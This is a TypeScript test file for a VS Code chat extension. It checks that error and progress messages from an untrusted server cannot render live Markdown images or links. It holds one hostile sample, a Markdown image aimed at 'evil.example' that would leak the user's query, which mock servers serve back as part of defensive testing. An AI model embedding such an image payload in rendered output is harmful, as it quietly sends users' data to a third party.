import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { createTwinExpertProvider } from '../../../src/providers/twinExpert';
import { DEMO_CREDENTIALS, startSimulator, type Simulator } from '../../simulator/server';
import { ParticipantFixture, shownError } from './participantFixture';

// VS Code's Chat view renders ChatResult.errorDetails.message as Markdown, with the same renderer
// as the answer (chatListRenderer: `new MarkdownString(element.errorDetails.message)`). @twin puts
// the error's sentence there, and that sentence quotes what the server said. Server text is
// untrusted like the answer: an image in it is fetched by the workbench as soon as the error is
// shown, which leaks whatever its URL carries (the answer goes through safeMarkdown for exactly
// this reason, and protocol.ts promises server words are "never [shown] as markdown or HTML").
describe('@twin error sentences in the Chat view', function () {
  this.timeout(30_000);
  let sim: Simulator;
  let fx: ParticipantFixture;
  let server: http.Server;
  let url = '';
  const hostile = '![status](https://evil.example/pixel?d=what-the-user-asked)';

  before(async () => {
    sim = await startSimulator({ port: 0, tokenDelayMs: 1 });
    // A TwinExpert that refuses every request with its own words (a NestJS error body).
    server = http.createServer((req, res) => {
      req.resume();
      const body = JSON.stringify({
        statusCode: 400,
        message: hostile,
        error: 'Bad Request',
      });
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(body);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    await sim.stop();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });
  beforeEach(() => {
    sim.reset();
    fx = new ParticipantFixture(sim);
  });
  afterEach(() => fx.dispose());

  it('a server message in the error cannot load an image', async () => {
    await fx.select('twinexpert');
    fx.chat.providers.twinexpert = createTwinExpertProvider({
      baseUrl: `${url}/api/v1`,
      getApiKey: () => Promise.resolve(DEMO_CREDENTIALS.twinExpertApiKey),
      http: fx.chat.http,
    });
    const { result } = await fx.ask('Hello');
    const message = result.errorDetails?.message ?? '';
    assert.ok(
      shownError(result).includes(`("${hostile}")`),
      `the server's words, as text: ${message}`,
    );
    assert.doesNotMatch(
      message,
      /(^|[^\\])!\[/,
      `errorDetails.message is rendered as Markdown, and holds a live image: ${message}`,
    );
    assert.doesNotMatch(message, /(^|[^\\])[[\]()]/, `nor a link: ${message}`);
  });

  it('a server progress message cannot load an image or make a link', async () => {
    // The same words, now as a progress event before a short answer: stream.progress is Markdown too.
    const streaming = http.createServer((req, res) => {
      req.resume();
      if (!req.url?.endsWith('/stream')) {
        res.writeHead(201, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ id: 'conv_1' })); // the conversation it opens first
        return;
      }
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.end(
        [
          `event: progress\ndata: ${JSON.stringify({ status: hostile })}\n\n`,
          `event: delta\ndata: ${JSON.stringify({ content: 'Hi' })}\n\n`,
          `event: complete\ndata: ${JSON.stringify({ message: { content: 'Hi' } })}\n\n`,
        ].join(''),
      );
    });
    await new Promise<void>((resolve) => streaming.listen(0, '127.0.0.1', resolve));
    try {
      await fx.select('twinexpert');
      fx.chat.providers.twinexpert = createTwinExpertProvider({
        baseUrl: `http://127.0.0.1:${(streaming.address() as AddressInfo).port}/api/v1`,
        getApiKey: () => Promise.resolve(DEMO_CREDENTIALS.twinExpertApiKey),
        http: fx.chat.http,
      });
      const { stream } = await fx.ask('Hello');
      const progress = stream.calls.flatMap((c) => (c.kind === 'progress' ? [c.value] : []));
      assert.ok(
        progress.length > 0,
        `the progress event was shown: ${JSON.stringify(stream.calls)}`,
      );
      for (const value of progress) {
        assert.doesNotMatch(value, /(^|[^\\])!\[/, `a live image in progress: ${value}`);
        assert.doesNotMatch(value, /(^|[^\\])[[\]()]/, `a link in progress: ${value}`);
      }
    } finally {
      streaming.closeAllConnections();
      await new Promise<void>((resolve) => streaming.close(() => resolve()));
    }
  });
});
